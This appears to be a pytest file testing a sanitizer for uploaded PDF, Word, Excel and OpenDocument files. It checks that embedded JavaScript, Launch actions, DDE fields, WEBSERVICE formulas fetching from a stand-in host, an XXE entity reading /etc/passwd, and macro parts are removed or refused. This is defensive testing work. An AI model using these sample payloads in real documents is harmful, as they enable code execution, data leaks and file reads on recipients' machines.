"""Documents that act when they are opened: what acts is taken out, the petition stays."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf

from backend.core.errors import DomainError, ErrorCode
from backend.documents.intake import AcceptedFile, accept
from tests.factories import PDF

RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def javascript() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def take(content: bytes) -> AcceptedFile:
    return accept(io.BytesIO(content))


def refused(content: bytes) -> DomainError:
    with pytest.raises(DomainError) as found:
        take(content)
    assert found.value.field == "file"
    return found.value


def document(change: Callable[[Pdf], None], **options: object) -> bytes:
    """One page with a sentence, changed; its objects lie compressed, where no search for bytes finds them."""
    with Pdf.new() as pdf:
        pdf.add_blank_page()
        pdf.pages[0].Contents = pdf.make_stream(b"BT (dilekce) Tj ET")
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, **options)
        return out.getvalue()


def link(pdf: Pdf, action: Dictionary) -> None:
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action))])


def launch(pdf: Pdf) -> None:
    link(pdf, pdf.make_indirect(Dictionary(S=Name.Launch, F="cmd.exe")))


def chained(pdf: Pdf) -> None:
    link(pdf, Dictionary(S=Name.URI, URI="https://ornek.example", Next=Array([javascript()])))


def on_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(javascript())


def by_name(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", pdf.make_indirect(javascript())])))


def of_a_page(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F="http://disari.example"))


def in_a_form(pdf: Pdf) -> None:
    form = pdf.make_stream(b"", AA=Dictionary(K=javascript()))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([pdf.make_indirect(Dictionary(X=form))]), XFA=pdf.make_stream(b"<x/>")
    )


@pytest.mark.parametrize("change", [launch, chained, on_opening, by_name, of_a_page, in_a_form])
def test_a_document_loses_what_acts_and_keeps_its_pages(change: Callable[[Pdf], None]) -> None:
    kept = take(document(change)).content
    with pikepdf.open(io.BytesIO(kept)) as pdf:
        text = "".join(
            one.unparse(resolved=True).decode("latin-1")
            for one in pdf.objects
            if not isinstance(one, pikepdf.Stream)
        )
        assert b"dilekce" in pdf.pages[0].Contents.read_bytes()
        for one in pdf.objects:
            if isinstance(one, pikepdf.Stream):
                assert "/AA" not in one
    assert not any(word in text for word in ("JavaScript", "/JS", "Launch", "SubmitForm", "/AA", "/XFA"))
    assert ("ornek.example" in text) == (change is chained), "a link to an address stays"
    assert take(kept).content == kept


def test_a_document_that_does_nothing_stays_as_it_is_to_the_last_byte() -> None:
    harmless = document(lambda pdf: link(pdf, Dictionary(S=Name.URI, URI="https://ornek.example")))
    assert take(harmless).content == harmless
    assert take(PDF).content == PDF


def attaching(content: bytes) -> bytes:
    return document(lambda pdf: pdf.attachments.__setitem__("ek", content))


def test_other_files_inside_are_sent_one_by_one_but_for_the_xml_of_an_invoice() -> None:
    assert "ayrı ayrı" in str(refused(attaching(b"MZ kotu")))
    invoice = attaching(b"\xef\xbb\xbf<?xml version='1.0'?><Invoice/>")
    assert take(invoice).content == invoice


def test_a_file_inside_is_found_also_where_its_type_is_left_out() -> None:
    def attach(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(b"MZ kotu")
        named = Dictionary(Type=Name.Filespec, F="ek.exe", EF=Dictionary(F=stream))
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=pikepdf.Array(["ek", named])))

    assert "ayrı ayrı" in str(refused(document(attach)))


def test_a_document_behind_a_password_or_without_pages_is_refused_with_what_to_do() -> None:
    locked = document(lambda _pdf: None, encryption=pikepdf.Encryption(user="x", owner="y"))
    assert "Parolasız" in str(refused(locked))
    assert take(document(lambda _pdf: None, encryption=pikepdf.Encryption(user="", owner="y")))
    assert "PDF dosyası bozuk" in str(refused(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"))


def test_a_document_of_endless_objects_ends_with_a_sentence() -> None:
    nested = b"%PDF-1.4\n1 0 obj" + b"[" * 1_000_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    assert refused(nested).code in (ErrorCode.UNSUPPORTED, ErrorCode.TOO_LARGE)


def relations(*kinds: tuple[str, str, str]) -> bytes:
    each = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'
        for number, (kind, target, mode) in enumerate(kinds)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELATIONS}">{each}</Relationships>'.encode()


def package(parts: dict[str, bytes], main: str = "word/document.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": b"<Types/>", main: b"<w/>", **parts}.items():
            archive.writestr(name, content)
    return out.getvalue()


OUTSIDE = 'TargetMode="External"'
SETTINGS = "word/_rels/settings.xml.rels"


def test_an_office_document_fetches_nothing_and_keeps_its_links_and_words() -> None:
    given = package(
        {
            SETTINGS: relations(
                ("attachedTemplate", "http://disari.example/a.dotm", OUTSIDE),
                ("image", "\\\\disari\\a.png", OUTSIDE),
                ("hyperlink", "https://ornek.example", OUTSIDE),
                ("image", "media/a.png", ""),
            ),
            "word/media/a.png": b"resim",
        }
    )
    kept = take(given).content
    with zipfile.ZipFile(io.BytesIO(kept)) as after, zipfile.ZipFile(io.BytesIO(given)) as before:
        assert after.namelist() == before.namelist()
        assert after.read("word/media/a.png") == b"resim"
        found = after.read(SETTINGS).decode()
    assert "disari" not in found
    assert found.count("about:blank") == 2
    assert all(word in found for word in ("https://ornek.example", "media/a.png", f'xmlns="{RELATIONS}"'))
    assert take(kept).content == kept


def test_an_office_document_that_fetches_nothing_stays_as_it_is() -> None:
    harmless = package({SETTINGS: relations(("hyperlink", "https://ornek.example", OUTSIDE))})
    assert take(harmless).content == harmless


DTD = b'<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b SYSTEM "file:///etc/passwd">]><w>&a;&b;</w>'


@pytest.mark.parametrize(
    "parts",
    [
        {"word/styles.xml": DTD},
        {"word/styles.xml": DTD.decode().encode("utf-16")},
        {"word/styles.xml": b"<!--" + b"x" * 100_000 + b"-->" + DTD},
        {SETTINGS: DTD},
        {
            "word/_rels/document.xml.rels": relations(("vbaProject", "hidden.bin", "")),
            "word/hidden.bin": b"x",
        },
        {"word/_rels/document.xml.rels": relations(("aFChunk", "a.rtf", "")), "word/a.rtf": b"{\\rtf1}"},
        {"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 2000 + "\x01Ole10Native".encode("utf-16-le")},
        {"word/activeX/activeX1.bin": b"x"},
        {"xl/macrosheets/sheet1.xml": b"<x/>"},
        {"Scripts/python/a.py": b"x"},
        {"word/styles.xml": b"<w"},
        {"word/styles.xml": b""},
        {SETTINGS: b"<Relationships>" + b"<a>" * 100_000},
    ],
)
def test_definitions_macros_and_damaged_parts_are_refused(parts: dict[str, bytes]) -> None:
    assert refused(package(parts)).code is ErrorCode.UNSUPPORTED


# -- fields and links that act --------------------------------------------------------------------------------
NAMES = " ".join(
    f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for short, name in (
        *(("office", "office"), ("text", "text"), ("draw", "drawing"), ("table", "table")),
        *(("script", "script"), ("meta", "meta"), ("style", "style")),
    )
)


def open_document(body: str, name: str = "content.xml", encoding: str = "utf-8") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        declared = '<?xml version="1.0" encoding="ENC"?>'.replace("ENC", encoding.upper())
        root = f'<office:document-content {NAMES} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:unused="urn:x">'
        archive.writestr(name, f"{declared}{root}{body}</office:document-content>".encode(encoding))
        archive.writestr("Pictures/a.png", b"resim")
    return out.getvalue()


def part(content: bytes, name: str = "content.xml") -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return opened.read(name).decode()


DDE = 'office:dde-application="soffice" office:dde-topic="/disari/a.odt" office:dde-item="x"'


@pytest.mark.parametrize(
    "body",
    [
        '<draw:image xlink:href="http://disari.example/a.png"/>',
        '<draw:image xlink:href="&#104;ttp://disari.example/a.png"/>',
        '<draw:image xlink:href=" //disari.example/a.png"/>',
        '<draw:image xlink:href="Pictures/../../disari.png"/>',
        '<draw:object xlink:href="%2e%2e/disari.ods"/>',
        '<draw:object-ole xlink:href="file:///disari/a.doc"/>',
        '<draw:floating-frame xlink:href="https://disari.example/"/>',
        '<draw:plugin xlink:href="\\\\disari\\a.swf"/>',
        '<text:section><text:section-source xlink:href="http://disari.example/a.odt"/></text:section>',
        '<style:background-image xlink:href="http://disari.example/a.png"/>',
        f"<text:section><office:dde-source {DDE}/></text:section>",
        f"<text:dde-connection-decls><text:dde-connection-decl {DDE}/></text:dde-connection-decls>",
        '<office:event-listeners><script:event-listener xlink:href="macro:disari"/></office:event-listeners>',
        '<office:scripts><office:script script:language="disari"/></office:scripts>',
        "<text:script>disari()</text:script>",
        '<text:a xlink:href="vnd.sun.star.script:disari.py$a?language=Python">bağ</text:a>',
        '<text:a xlink:href="macro:///disari.a()">bağ</text:a>',
        '<meta:auto-reload xlink:href="http://disari.example/" meta:delay="PT1S"/>',
        '<meta:template xlink:href="http://disari.example/a.ott"/>',
        '<office:forms><x:image-frame xmlns:x="urn:form" x:image-data="http://disari.example/a.png"/></office:forms>',
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://disari.example&quot;)"/>',
        '<table:table-cell table:formula="of:=DDE(&quot;disari&quot;;&quot;a&quot;;&quot;b&quot;)"/>',
    ],
)
@pytest.mark.parametrize(("name", "encoding"), [("content.xml", "utf-8"), ("Object 1/content.xml", "utf-16")])
def test_an_open_document_fetches_and_runs_nothing(body: str, name: str, encoding: str) -> None:
    kept = take(
        open_document(f"<text:p>Dilekçem</text:p>{body}<text:p>sonu</text:p>", name, encoding)
    ).content
    found = part(kept, name)
    assert "disari" not in found
    assert all(word in found for word in ("Dilekçem", "sonu", 'xmlns:unused="urn:x"'))
    assert part(kept, "mimetype").endswith(".text")
    assert take(kept).content == kept


def test_a_field_of_an_open_document_keeps_what_it_showed() -> None:
    field = '<text:p>a<text:dde-connection text:connection-name="d">değer</text:dde-connection>b</text:p>'
    found = part(take(open_document(field)).content)
    assert "dde" not in found
    assert ">değer</text:span>b" in found


def test_an_open_document_keeps_its_own_pictures_and_what_is_clicked() -> None:
    harmless = open_document(
        '<draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>'
        '<text:a xlink:href="https://ornek.example/%C3%A7">bağ</text:a><text:a xlink:href="mailto:a@ornek.example"/>'
        '<text:a xlink:href="#başlık"/><table:table-cell table:formula="of:=SUM([.A1:.A3])"/>'
    )
    assert take(harmless).content == harmless


WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def run(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def field(*instructions: str, shown: str = "değer") -> str:
    """A field; an instruction that is a field itself stands among the others."""
    runs = "".join(one if one.startswith("<w:r>") else run(one) for one in instructions)
    ends = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")}
    return f"{ends['begin']}{runs}{ends['separate']}<w:r><w:t>{shown}</w:t></w:r>{ends['end']}"


def word(body: str) -> bytes:
    xml = f'<w:document xmlns:w="{WORDS}" xmlns:w14="urn:w14" mark="w14"><w:p>{body}</w:p></w:document>'
    return package({"word/document.xml": xml.encode()})


@pytest.mark.parametrize(
    "body",
    [
        field(' DDEAUTO disari "/k calc"'),
        field(" DD", "E", " disari x"),
        field("&#68;DE disari x"),
        field(" D<!-- -->DE disari x"),
        field(' INCLUDEPICTURE "http://disari.example/a.png" \\d'),
        field("DDE ", field("QUOTE 65"), " disari"),
        field(" DDE disari").replace("instrText", "delInstrText"),
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://disari.example/a.png"/>değer',
        '<w:fldSimple w:instr=" DDE disari x"><w:r><w:t>değer</w:t></w:r></w:fldSimple>',
    ],
)
def test_a_field_of_word_that_acts_keeps_what_it_showed(body: str) -> None:
    kept = take(word(body + field(" PAGE ", shown="7"))).content
    found = part(kept, "word/document.xml")
    assert "disari" not in found
    assert all(text in found for text in ("değer", " PAGE ", 'xmlns:w14="urn:w14"'))
    assert take(kept).content == kept


def test_fields_of_word_that_only_show_stay_as_they_are() -> None:
    harmless = word(field(' HYPERLINK "https://ornek.example"') + field(" PAGE "))
    assert take(harmless).content == harmless


SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("xl/externalLinks/a.xml", '<ddeLink ddeService="disari" ddeTopic="/c calc"/>'),
        ("xl/worksheets/a.xml", '<c><f>_xlfn.WEBSERVICE("http://disari.example")</f><v>7</v></c>'),
        (
            "xl/worksheets/a.xml",
            '<c><f>_xlfn.WEB<![CDATA[SERVICE("http://disari.example")]]></f><v>7</v></c>',
        ),
        (
            "xl/worksheets/a.bin",
            '<c><f t="shared" si="0">_xlfn.IMAGE("http://disari.example")</f><v>7</v></c>',
        ),
        ("xl/worksheets/a.svg", '<cfRule><formula>WEBSERVICE("http://disari.example")=1</formula></cfRule>'),
        ("xl/workbook2.xml", '<definedName name="a">WEBSERVICE("http://disari.example")</definedName>'),
        ("xl/connections.xml", '<connection refreshOnLoad="1"><webPr/></connection>'),
    ],
)
def test_a_workbook_asks_no_other_program(name: str, body: str) -> None:
    parts = {name: f'<x xmlns="{SHEET}"><d>5</d>{body}</x>'.encode()}
    kept = take(package(parts, "xl/workbook.xml")).content
    found = part(kept, name)
    assert not any(word in found for word in ("disari", "refreshOnLoad"))
    assert "<d>5</d>" in found
    assert ("<v>7</v>" in found) == ("<v>7</v>" in body)


def test_a_drawing_inside_may_be_of_an_older_kind() -> None:
    drawing = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'
    harmless = package({"word/media/a.svg": drawing})
    assert take(harmless).content == harmless
